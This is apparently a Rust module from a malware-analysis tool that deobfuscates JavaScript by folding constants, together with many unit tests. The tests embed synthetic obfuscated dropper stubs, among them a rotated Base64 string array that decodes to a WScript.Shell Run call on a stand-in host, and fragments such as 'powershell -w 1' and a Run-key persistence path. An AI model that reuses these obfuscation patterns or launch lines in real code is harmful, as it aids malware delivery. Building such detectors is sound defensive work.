//! JavaScript: parsed by oxc, constants evaluated in the tree until nothing changes, and what the script would run taken
//! out. A text is written anew only where enough speaks for its having been hidden.

mod assign;
mod chain;
mod coding;
mod dead;
mod expression;
mod flatten;
mod fold;
mod kind;
mod lists;
mod loops;
mod machine;
mod names;
mod natives;
mod nesting;
mod news;
mod number;
mod operate;
mod parse;
mod quote;
mod regex;
mod scopes;
mod spelling;
mod statement;
mod strings;
mod targets;
mod trace;
mod value;

use std::collections::{BTreeMap, BTreeSet};

use oxc_allocator::Allocator;
use oxc_codegen::Codegen;

use crate::budget::Budget;
use crate::limits::{MAX_LAYER, MAX_ROUNDS};
use crate::peel::{Rewrite, Technique};
use crate::script::Hosts;
use crate::signs;
use targets::Targets;

/// What is known of a text that is being written anew.
#[derive(Debug, Default)]
struct Progress {
    counts: BTreeMap<Technique, usize>,
    /// How much speaks for its being obfuscated, in hundredths.
    weight: usize,
    /// Names of declarations that only serve to decode.
    machinery: BTreeSet<String>,
    rounds: usize,
    /// Texts that were read where none stood.
    texts: usize,
    hosts: Hosts,
}

/// A few names in pieces, or one list of texts, weigh as much.
const ENOUGH: usize = 200;

pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
    if !budget.spend(text.len() / 32 + 1) {
        return Rewrite::default();
    }
    match Targets::of(text, budget) {
        // Functions do not say their text as it was written.
        Some(targets) => {
            let done = undo_parsed(&targets.text, Progress { rounds: 1, ..Progress::default() }, budget);
            targets.shown(done, budget)
        }
        None => undo_parsed(text, Progress::default(), budget),
    }
}

fn undo_parsed(text: &str, mut progress: Progress, budget: &mut Budget) -> Rewrite {
    if signs::is_program(text) {
        // What its signs make is said best by what is run in the end.
        let found = trace::found(text, budget);
        if !found.is_empty() {
            return Rewrite { found, ..Rewrite::default() };
        }
    }
    let mut current: Option<String> = None;
    for _ in 0..MAX_ROUNDS {
        let Some(next) = round(current.as_deref().unwrap_or(text), budget, &mut progress) else { break };
        if next.len() > MAX_LAYER {
            break;
        }
        // What is no longer needed need not be run again.
        current = Some(without_machinery(&next, &progress.machinery, budget).unwrap_or(next));
    }
    let is_enough = progress.weight >= ENOUGH;
    let steps = progress.counts.into_iter().collect();
    if is_enough && let Some(done) = current {
        return Rewrite { text: Some(tidied(done, budget)), steps, ..Rewrite::default() };
    }
    let slight = current.filter(|_| progress.texts > 0);
    Rewrite { slight, steps, found: trace::found(text, budget), ..Rewrite::default() }
}

/// One round of folding; None if nothing is left to be folded.
fn round(text: &str, budget: &mut Budget, progress: &mut Progress) -> Option<String> {
    let allocator = Allocator::default();
    let program = allocator.alloc(parse::program(&allocator, text, budget)?);
    let edits = fold::fold(&allocator, program, text, budget, progress);
    progress.rounds += 1;
    if edits.is_empty() { None } else { Some(edits.apply(text)) }
}

fn without_machinery(text: &str, machinery: &BTreeSet<String>, budget: &mut Budget) -> Option<String> {
    if machinery.is_empty() {
        return None;
    }
    let allocator = Allocator::default();
    let program = parse::program(&allocator, text, budget)?;
    dead::without(program, &allocator, text, machinery)
}

/// Printed so that it can be read.
pub fn tidied(text: String, budget: &mut Budget) -> String {
    let allocator = Allocator::default();
    let program = parse::program(&allocator, &text, budget).filter(parse::is_shallow);
    program.map(|program| Codegen::new().build(&program).code).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What an expression becomes in a text that is obfuscated for sure.
    pub fn becomes(expression: &str) -> String {
        let text = format!("var w = String.fromCharCode(104, 116, 116, 112);\nx({expression});\n");
        let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
        let inner = done.lines().last().and_then(|line| line.strip_prefix("x(")?.strip_suffix(");"));
        inner.unwrap_or_default().to_owned()
    }

    /// Texts in Base64 in a list that is turned once, and what fetches them.
    const STUB: &str = r#"
        var l = ['aHR0cDovL2MzLmNvbnRvc28tbWFpbC50b3AveA==', 'V1NjcmlwdC5TaGVsbA==', 'UnVu'];
        (function(a, n) { var t = function(i) { while (--i) { a['push'](a['shift']()); } }; t(++n); }(l, 1));
        var d = function(i) {
            i = i - 0;
            var v = l[i];
            if (d['is'] === undefined) {
                (function() {
                    var g;
                    try {
                        g = Function('return (function() ' + '{}.constructor("return this")( )' + ');')();
                    } catch (e) { g = window; }
                    g['atob'] || (g['atob'] = function(x) { return x; });
                }());
                d['of'] = function(x) {
                    var b = atob(x), h = '';
                    for (var j = 0; j < b.length; j++) { h += '%' + ('00' + b.charCodeAt(j).toString(16)).slice(-2); }
                    return decodeURIComponent(h);
                };
                d['known'] = {};
                d['is'] = !![];
            }
            var k = d['known'][i];
            if (k === undefined) { v = d['of'](v); d['known'][i] = v; } else { v = k; }
            return v;
        };
    "#;

    #[test]
    fn a_decoder_in_a_variable_that_asks_for_the_global_object_is_undone() {
        let text = format!("{STUB}\nnew ActiveXObject(d('0x0'))[d('0x1')](d('0x2'), d('0x0'), d('0x1'));");
        let done = undo(&text, &mut Budget::new(text.len()));
        let clear =
            "new ActiveXObject(\"WScript.Shell\").Run(\"http://c3.contoso-mail.top/x\", \"WScript.Shell\", \"Run\");\n";
        assert_eq!(done.text.as_deref(), Some(clear));
        assert!(done.steps.iter().any(|step| step.0 == Technique::StringArray), "{:?}", done.steps);
    }

    /// As long as a call of the decoder is left, so is what turns its list: here a flattened switch, which is put in
    /// order as it is written, has calls that are read in the round after.
    #[test]
    fn a_list_is_turned_as_long_as_it_is_read() {
        let text = format!(
            r#"{STUB}
            var e = d;
            function f(u) {{
                var m = d,
                    q = {{ 'aBcDe': m('0x2'), 'fGhIj': function(a, b) {{ return a + b; }} }},
                    r = '1|0|2'['split']('|'),
                    c = 0;
                while (!![]) {{
                    switch (r[c++]) {{
                        case '0': x[m('0x1')](m('0x0')); continue;
                        case '1': x(q['fGhIj'](u, q['aBcDe'])); continue;
                        case '2': return m('0x0');
                    }}
                    break;
                }}
            }}
            f(e('0x1'));"#
        );
        let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
        for clear in ["x(u + \"http://c3.contoso-mail.top/x\")", "x.Run(\"WScript.Shell\")", "f(\"Run\")"] {
            assert!(done.contains(clear), "{clear}: {done}");
        }
        assert!(!done.contains("switch") && !done.contains("shift") && !done.contains("fGhIj"), "{done}");
    }

    #[test]
    fn a_decoder_that_asks_for_its_own_text_is_undone_in_a_flattened_switch() {
        let text = r#"
            var l = [atob('UnVu'), atob('V1NjcmlwdC5TaGVsbA==')];
            function d(i, t) { t = d; return (t + '').charCodeAt(0) === 102 ? l[i - 0] : ''; }
            function f(u) {
                var o = '1|0'['split']('|'), c = 0;
                while (!![]) {
                    switch (o[c++]) {
                        case '0': x[d('0x0')](u); continue;
                        case '1': x(d('0x1')); continue;
                    }
                    break;
                }
            }
            f(1);"#;
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(done.contains("x(\"WScript.Shell\");\n\tx.Run(u);"), "{done}");
    }

    #[test]
    fn the_way_to_the_global_object_is_nothing_hidden() {
        // Whatever else of the text is not known.
        let text = format!("{}\nx(d(y));", STUB.replace("i = i - 0", "i = i - z"));
        let done = undo(&text, &mut Budget::new(text.len()));
        assert!(done.text.is_none() && done.found.is_empty(), "{done:?}");
    }

    #[test]
    fn code_made_of_a_text_does_not_take_the_steps_of_the_rest() {
        for busy in ["while (true) {}", "for (;;) {}", "var i = 0; while (i < 1) i -= 1;"] {
            let text = format!(
                "function f() {{ return Function(\"{busy}\")(); }}\nx(f());\nx('ht' + 'tp://c3.contoso-mail.top');"
            );
            let mut budget = Budget::new(text.len());
            let done = undo(&text, &mut budget);
            assert!(done.text.is_some_and(|text| text.contains("http://c3")), "{busy}");
            assert!(budget.steps_used() < 20_000_000, "{}", budget.steps_used());
        }
    }

    #[test]
    fn code_made_of_a_text_sees_what_the_whole_text_declares() {
        assert_eq!(becomes("Function('a', 'b', 'return a + b')('p', 'q')"), "\"pq\"");
        for left in [
            "(function() { var hidden = 'in'; return Function('return hidden')() + ''; })()",
            "(function() { var unescape = (t) => t; return Function('return unescape(\"%41\")')(); })() + y",
            "Function('y = 1; return \"a\" + y')()",
            "Function('}, function() { return \"a\"')()",
            "eval('\"a\"') + \"b\"",
        ] {
            let done = becomes(left);
            assert!(done.is_empty() || done.contains("Function(") || done.contains("eval("), "{left}: {done}");
        }
        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nx(w);\nfunction atob(t) {\n\treturn t;\n}\nx(Function(\"return atob('QUI=')\")());";
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(!done.contains("AB"), "{done}");
    }

    #[test]
    fn few_foldings_count_where_they_say_something_new() {
        for (text, clear) in [
            ("WScript.Echo(\"ht\"+\"tp://c3.contoso-mail.top/z\");", "http://c3.contoso-mail.top/z"),
            ("x(\"http\" + \"://c3.contoso-mail.top/z\");", "http://c3.contoso-mail.top/z"),
            ("x(['c3.conto', 'so-mail.top'].join(''));", "c3.contoso-mail.top"),
            ("var a = 'power'; x(a + 'shell -w 1');", "powershell -w 1"),
            (
                "x('HKCU\\\\Softw' + 'are\\\\Microsoft\\\\Windows\\\\Current' + 'Version\\\\Run');",
                "CurrentVersion\\\\Run",
            ),
            ("x(p + '\\\\up' + 'd.e' + 'xe');", "upd.exe"),
        ] {
            let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
            assert!(done.contains(clear), "{text}: {done}");
        }
    }

    #[test]
    fn few_foldings_of_honest_scripts_do_not_count() {
        for text in [
            "x('http:' + '//www.example.com/s.js');",
            "x('<a href=\"http:\\/\\/www.example.com\">' + 'text');",
            "var base = 'https://api.example.com'; x(base + '/v1');",
            "var scheme = 'https'; x(scheme + '://api.example.com/v1');",
            "var host = 'api.example.com'; x('https://' + host + '/v1');",
            "x('mail' + '@' + 'example' + '.com');",
            "x('node' + '.exe', 'C:\\\\Windows' + '\\\\System32');",
            "x('a long text that is ' + 'broken where a line ends');",
            "x(60 * 60 * 24, ['jquery', 'min', 'js'].join('.'));",
            "var l = ['one', 'two']; function f(i) { return l[i]; } x(f(0), f(1));",
            "var l = ['January', 'May']; function f(i) { return l[i].slice(0, 3).toUpperCase(); } x(f(0));",
        ] {
            let done = undo(text, &mut Budget::new(text.len()));
            assert!(done.text.is_none(), "{text}: {done:?}");
        }
    }

    #[test]
    fn a_list_that_is_turned_or_decoded_counts_however_few_it_has() {
        let turned = "var l = ['Run', 'Shell', 'log'];\n(function(a, n) {\n\tvar t = function(i) {\n\t\twhile (--i) {\n\t\t\ta['push'](a['shift']());\n\t\t}\n\t};\n\tt(++n);\n}(l, 1));\nvar d = function(i) {\n\treturn l[i - 0];\n};\nx(d('0x0'));\n";
        let done = undo(turned, &mut Budget::new(turned.len())).text;
        assert_eq!(done.as_deref(), Some("x(\"Shell\");\n"));
        let decoded = "var l = ['UnVu'];\nfunction d(i) {\n\treturn atob(l[i]);\n}\nx(d(0));\n";
        let done = undo(decoded, &mut Budget::new(decoded.len())).text;
        assert_eq!(done.as_deref(), Some("x(\"Run\");\n"));
    }

    /// As Node.js has them.
    #[test]
    fn values_are_those_of_the_language() {
        for (expression, value) in [
            ("'price'.replace('p', '$1')", "\"$1rice\""),
            ("'price'.replace(/(p)/, '$1$1$2')", "\"pp$2rice\""),
            ("'abc'.replace(/./g, (c, i) => i)", "\"012\""),
            ("'abc'.replace(/b/, (c, i, all) => all)", "\"aabcc\""),
            ("String(parseFloat('1e3x'))", "\"1000\""),
            ("String(parseFloat('1.2.3'))", "\"1.2\""),
            ("String(parseFloat('12-3'))", "\"12\""),
            ("String(parseFloat('.'))", "\"NaN\""),
            ("(2.5).toFixed(0) + (1.005).toFixed(2) + (-2.5).toFixed() + (0.5).toFixed(0)", "\"31.00-31\""),
            ("String(Math.max(1, NaN))", "\"NaN\""),
            ("String(Math.round(-2.5))", "\"-2\""),
            ("String(Number.isNaN('a'))", "\"false\""),
            ("String(1 ** NaN)", "\"NaN\""),
            ("String('abc'['01']) + 'abc'['1']", "\"undefinedb\""),
            ("decodeURI('%2F%41') + decodeURIComponent('%2F%41')", "\"%2FA/A\""),
            ("'a,b'.split(',', undefined).join('+')", "\"a+b\""),
            ("(() => { let a = '1'; { let a = '2'; var b = a; } { var c = a; } return a + b + c; })()", "\"121\""),
            (
                "(() => { let s = ''; for (let s = 0; s < 3; s++) {} for (var i = 0; i < 2; i++) { s += i; } return s + i; })()",
                "\"012\"",
            ),
            ("(() => { var s = 'a', t = (s += 'b'); s += 'c'; return t + s; })()", "\"ababc\""),
            ("(() => { var s = 'a', t = s; return (s += 'b') + (s = s + 'c') + s + t; })()", "\"ababcabca\""),
            ("(() => { var s = 'a'; return (s += (s = 'b', 'c')) + s; })()", "\"acac\""),
            (
                "(() => { var s = ''; for (let i = 0; i < 3; i++) { s += 'x'; s += 1 + 2 * 3; } return s; })()",
                "\"x7x7x7\"",
            ),
            (
                "(() => { var t = '\\u0103b'; return t[0] + t.charAt(1) + t[7] + t.at(-1) + t.charAt(2); })()",
                "\"\u{103}bundefinedb\"",
            ),
            ("(() => { try { null.x; } catch (e) { return 'caught'; } })()", "\"caught\""),
            (
                "(function () { var a = arguments; function f() { return arguments[0]; } return f('in') + a[0]; })('out')",
                "\"inout\"",
            ),
            (
                "(() => { var s = [], i; for (i = -0; i < 256; i++) s[i] = i; return String(1 / s[0]); })()",
                "\"-Infinity\"",
            ),
            (
                "(() => { var t = ''; for (var i of ['b', 'B', 3]) { t += 'a' < i; t += 2 >= i; } return t; })()",
                "\"truefalsefalsefalsefalsefalse\"",
            ),
            ("String(new Array(4).join('ab')) + new Array(2, 3).length", "\"ababab2\""),
            ("new Array(2).fill('a').map((c, i) => c + i).join('')", "\"a0a1\""),
            ("Array.apply(null, Array(2)).map((c, i) => String(c) + i).join('')", "\"undefined0undefined1\""),
            ("(() => { var a = new Array(2); a[0] = a[1] = 'x'; return a.map((c) => c + c).join(''); })()", "\"xxxx\""),
            ("(() => { var a = [1, 2]; a.forEach((i) => a.push(i)); return a.join(''); })()", "\"1212\""),
            ("[1, 2].map((i) => i + 1).concat([1, 2, 3].reduce((s, i) => s + i)).join('')", "\"236\""),
            ("['a'].map(function() { return this.x; }, { x: 'b' }).join()", "\"b\""),
            ("['a', 'b'].at(-0.5) + String([NaN].includes(NaN)) + [NaN].indexOf(NaN)", "\"atrue-1\""),
            (
                "String('x' in { x: undefined }) + ('y' in {}) + (1 in [1]) + (0 in [undefined])",
                "\"truefalsefalsetrue\"",
            ),
            ("(() => { try { [].map(1); } catch (e) { return 'caught'; } })()", "\"caught\""),
            ("String(Number('0x+5')) + Number('0b-1') + Number('0x1f')", "\"NaNNaN31\""),
            ("Object.keys({ b: 1, '01': 1, 7: 1, 3: 1 }).join()", "\"3,7,b,01\""),
            (
                "(() => { var f = []; for (let i = 0; i < 3; i++) f.push(() => i); return f.map((g) => g()).join(''); })()",
                "\"012\"",
            ),
            (
                "(() => { var f = []; for (let i = 0, g = () => i; i < 2; i++) f.push(g()); return f.join(''); })()",
                "\"00\"",
            ),
            (
                "(() => { var f = []; for (var i = 0; i < 3; i++) f.push(() => i); return f.map((g) => g()).join(''); })()",
                "\"333\"",
            ),
            ("(() => { var x = 'a', f = () => { x = 'h'; var x; return x; }; return f() + x; })()", "\"ha\""),
            ("(() => { var x = 'a'; return (function() { return x + 'z'; var x; })(); })()", "\"undefinedz\""),
            ("(() => { var x = 'a'; return ((x) => { return x + 'z'; var x; })('b'); })()", "\"bz\""),
            (
                "(function f() { var t = typeof f; if (false) { for (var f in {}) {} } return t + 's'; })()",
                "\"undefineds\"",
            ),
            ("(function() { var f = 'b', t = typeof f; function f() {} return t + 's'; })()", "\"strings\""),
            ("(() => { var n = 0; for (var c of 'a\u{1f600}') n += c.length * 10 + 1; return n + ''; })()", "\"32\""),
            (
                "(() => { var a = [1], t = ''; for (var i of a) { t += i; if (i < 3) a.push(i + 1); } return t; })()",
                "\"123\"",
            ),
            ("Array.from('a\u{1f600}').length + ''", "\"2\""),
            ("(() => { function F() {} F.prototype.toString = () => 'own'; return new F() + '!'; })()", "\"own!\""),
        ] {
            assert_eq!(becomes(expression), value, "{expression}");
        }
    }

    #[test]
    fn what_gets_another_value_later_is_left() {
        for script in [
            "function t(a, b) {\n\treturn a + b;\n}\nt = function(a, b) {\n\treturn a;\n};\nx(t(\"p\", \"q\"));\n",
            "function f() {\n\treturn f.v + \"x\";\n}\nf.v = w;\nx(f());\n",
            "var s = \"a,b,c\".split(y);\ns.length = 2;\nx(s + \"\");\n",
            "var s = \"ab\";\n(function() {\n\teval(\"s='zz'\");\n})();\nx(s + \"c\");\n",
            "String.prototype.charAt = function() {\n\treturn y;\n};\nx(\"abc\".charAt(0));\n",
            "String[\"prototype\"][\"charAt\"] = function() {\n\treturn y;\n};\nx(\"abc\".charAt(0));\n",
        ] {
            let text = format!("var w = String.fromCharCode(104, 116, 116, 112);\nx(w);\n{script}");
            let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
            let last = script.lines().last().unwrap_or_default();
            assert!(done.ends_with(&format!("{last}\n")), "{done}");
        }
        // What a class of the text's own has is no method of the language.
        let text = "function T() {}\nT.prototype.join = y;\nx(['c', 'b', 'a'].reverse().join(''));\n";
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(done.contains("x(\"abc\")"), "{done}");
        // A decoder that replaces itself is what it is.
        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nfunction d() {\n\tvar l = [\"one\", \"two\"];\n\td = function() {\n\t\treturn l;\n\t};\n\treturn d();\n}\nx(d()[1]);\n";
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(done.contains("x(\"two\")"), "{done}");
    }

    #[test]
    fn a_variable_without_its_value_is_left() {
        for script in [
            "if (c) {\n\tvar a = \"x\";\n}\nx(a + \"b\");\n",
            "x(a + \"b\");\nvar a = \"x\";\n",
            "for (; c;) {\n\tvar a = \"x\";\n}\nx(a + \"b\");\n",
        ] {
            let text = format!("var w = String.fromCharCode(104, 116, 116, 112);\nx(w);\n{script}");
            let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
            assert!(done.ends_with(script), "{done}");
        }
        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nif (c) {\n\tvar a = w;\n\tx(a + \"b\");\n}\n";
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(done.contains("x(\"httpb\")"), "{done}");
    }

    #[test]
    fn what_is_not_known_for_sure_is_left() {
        for expression in [
            "\"a1b\".split(/(\\d)/).join(\"-\")",
            "\"abc\".split(/(?:)/).join(\"-\")",
            "\"baaac\".replace(/a*/g, \"-\")",
            "String([1].indexOf(1, 1))",
            "decodeURIComponent(\"%zz\")",
            "String(new Array(1048577).join(\"ab\").length)",
            "String(new Array(2.5).length)",
            "String(new Array(-1).length)",
            "new Array(3).map((a, b) => b).join(\"\")",
            "[, \"a\"].map((a, b) => b).join(\"\")",
            "String([, \"a\"].indexOf(undefined))",
            "String(0 in [, \"a\"])",
            "Object.keys([, \"a\"]).join(\"\")",
            "[\"a\", [, \"b\"]].flat().join(\"-\")",
            "\"a\" + { valueOf: () => ({}) }",
            "String(\"valueOf\" in {})",
        ] {
            assert_eq!(becomes(expression), expression);
        }
        for inner in [
            "var a = [\"a\"]; a.length = 4; return a.join();",
            "var a = [1, 2, 3]; return a.reduce((s, i) => { a.pop(); return s + i; }) + \"\";",
            "var a = [1, 2, 3]; a.forEach(() => a.shift()); return a.join();",
            "var a = [\"a\"]; delete a[0]; return a.length + \"\";",
            "const a = \"a\"; a = \"b\"; return a;",
            "const a = \"a\"; a += \"b\"; return a;",
            "const a = 1; a++; return a + \"\";",
            "var a = [\"a\"]; a[2] = \"b\"; return a.map((c) => c + c).join();",
            "var o = { a: 1, b: 2 }, t = \"\"; for (var k in o) { t += k; delete o.b; } return t;",
        ] {
            let done = becomes(&format!("(() => {{ {inner} }})()"));
            assert!(done.is_empty(), "{inner}: {done}");
        }
        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nx((function() { var s = ''; \
                    o: for (var i = 0; i < 3; i++) for (;;) { s += i; continue o; } return s; })());";
        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
        assert!(done.contains("continue o"), "{done}");
    }
}
